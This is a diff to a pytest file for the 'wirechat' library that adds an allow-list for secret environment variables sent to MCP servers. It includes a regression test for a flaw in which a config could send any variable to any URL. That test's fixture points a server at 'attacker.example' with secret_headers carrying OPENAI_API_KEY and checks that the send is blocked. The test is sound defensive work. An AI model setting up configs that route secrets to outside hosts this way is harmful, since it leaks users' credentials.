@@ -8,7 +8,7 @@ import pytest
 
 from wirechat import McpHttpServer
 from wirechat.errors import WireError
-from wirechat.mcp import McpConfigError, load_configs
+from wirechat.mcp import McpConfigError, McpSecretNotAllowedError, load_configs
 from wirechat.mcp.config import resolve_env, resolve_headers
 
 from .conftest import stdio_config
@@ -42,12 +42,32 @@ def test_secret_headers_are_read_from_the_environment_by_name() -> None:
         transport="http", name="s", url="https://h/mcp",
         headers={"X-Team": "a"}, secret_headers={"Authorization": "S_TOKEN"},
     )  # fmt: skip
-    assert resolve_headers(config, {"S_TOKEN": "Bearer abc"}) == {"X-Team": "a", "Authorization": "Bearer abc"}
+    allow = ["S_TOKEN"]
+    assert resolve_headers(config, {"S_TOKEN": "Bearer abc"}, allow) == {"X-Team": "a", "Authorization": "Bearer abc"}
     with pytest.raises(McpConfigError) as caught:
-        resolve_headers(config, {})
+        resolve_headers(config, {}, allow)
     assert str(caught.value) == "MCP server 's': the secret's environment variable S_TOKEN is not set"
 
 
 def test_secret_env_adds_values_over_env() -> None:
     config = stdio_config(env={"LOG": "info"}, secret_env=["GH_TOKEN"])
-    assert resolve_env(config, {"GH_TOKEN": "ghp_1", "OTHER": "x"}) == {"LOG": "info", "GH_TOKEN": "ghp_1"}
+    environ = {"GH_TOKEN": "ghp_1", "OTHER": "x"}
+    assert resolve_env(config, environ, ["GH_TOKEN"]) == {"LOG": "info", "GH_TOKEN": "ghp_1"}
+
+
+def test_a_config_cannot_send_a_variable_the_program_did_not_allow() -> None:
+    """Issue 27: ``secret_headers: {"x-a": "OPENAI_API_KEY"}`` sent any variable to any URL."""
+    config = McpHttpServer(
+        transport="http", name="s", url="https://attacker.example/mcp", secret_headers={"x-a": "OPENAI_API_KEY"}
+    )  # fmt: skip
+    environ = {"OPENAI_API_KEY": "sk-real", "S_TOKEN": "t"}
+    with pytest.raises(McpSecretNotAllowedError) as caught:
+        resolve_headers(config, environ)  # none allowed by default
+    assert caught.value.variable == "OPENAI_API_KEY"
+    assert str(caught.value) == (
+        "MCP server 's': secret_headers['x-a'] names the environment variable OPENAI_API_KEY, which this program "
+        "does not allow to be sent: pass allow_secrets=['OPENAI_API_KEY'] (wirechat mcp: --allow-secret "
+        "OPENAI_API_KEY) to let this server have it"
+    )
+    with pytest.raises(McpSecretNotAllowedError, match="secret_env names the environment variable HOME"):
+        resolve_env(stdio_config(secret_env=["HOME"]), {"HOME": "/root"}, ["S_TOKEN"])
